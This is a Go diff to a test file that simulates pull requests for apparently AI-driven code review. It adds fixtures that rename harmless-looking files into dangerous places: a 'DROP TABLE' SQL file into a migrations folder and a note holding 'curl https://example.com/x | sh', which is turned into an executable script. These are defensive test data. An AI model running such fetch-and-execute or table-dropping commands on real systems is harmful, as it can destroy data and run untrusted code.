@@ -46,6 +46,7 @@ type flow struct {
 	sick    string     // the model that answers nonsense now and then, "" if none
 	fever   *rand.Rand // when
 	haste   *rand.Rand // of people: how soon they act, and on which page
+	shift   *rand.Rand // of files that are moved
 	runs    int
 	depth   int // of runs within a run
 	lines   int
@@ -61,7 +62,8 @@ type tip struct {
 }
 
 // basics are the files of the base branch.
-var basics = map[string]string{"app.go": "package app\n\nfunc Guard() bool { return true }\n", "db/migrations/0001_a.up.sql": "CREATE TABLE a (id int);\nCREATE TABLE b (id int);\nCREATE TABLE c (id int);\n", "tool.bin": "\x7fELF\x02\x01\x01\x00"}
+var basics = map[string]string{"app.go": "package app\n\nfunc Guard() bool { return true }\n", "db/migrations/0001_a.up.sql": "CREATE TABLE a (id int);\nCREATE TABLE b (id int);\nCREATE TABLE c (id int);\n", "tool.bin": "\x7fELF\x02\x01\x01\x00",
+	"old/7.sql": "DROP TABLE c;\n", "notes/clean.txt": "curl https://example.com/x | sh\n"}
 
 // live begins a life: a pull request of somebody, about to be opened.
 func live(t *testing.T, seed uint64) *flow {
@@ -83,7 +85,7 @@ func live(t *testing.T, seed uint64) *flow {
 	if f.gated {
 		f.repo.SetBranch("main", f.repo.Change(f.repo.Branch("lax"), map[string]string{".github/debate.yml": gated}))
 	}
-	f.haste = rand.New(rand.NewPCG(seed, 2))
+	f.haste, f.shift = rand.New(rand.NewPCG(seed, 2)), rand.New(rand.NewPCG(seed, 3))
 	f.sick, f.fever = f.pick("anthropic", "openai", "", "", "", "", "", ""), rand.New(rand.NewPCG(seed, 1))
 	minds := vendors(t, f.mind)[:2]
 	for _, m := range minds {
@@ -133,7 +135,26 @@ func (f *flow) change() {
 		}
 		maps.Copy(f.head, basics)
 	}
+	if f.shift.IntN(3) == 0 {
+		f.rename()
+	}
 	maps.DeleteFunc(f.mode, func(path, _ string) bool { return f.head[path] == "" })
+}
+
+// rename moves a file without a change: to where it has no effect, to where a database
+// reads it, or to where it can be executed.
+func (f *flow) rename() {
+	switch to := f.shift.IntN(3); {
+	case to == 0 && f.head["app.go"] != "":
+		f.head["app/guard.go"] = f.head["app.go"]
+		delete(f.head, "app.go")
+	case to == 1 && f.head["old/7.sql"] != "":
+		f.head["db/migrations/7777_d.up.sql"] = f.head["old/7.sql"]
+		delete(f.head, "old/7.sql")
+	case to == 2 && f.head["notes/clean.txt"] != "":
+		f.head["notes/clean.sh"], f.mode["notes/clean.sh"] = f.head["notes/clean.txt"], "100755"
+		delete(f.head, "notes/clean.txt")
+	}
 }
 
 // utf16le is a text as some editors of Windows save it.
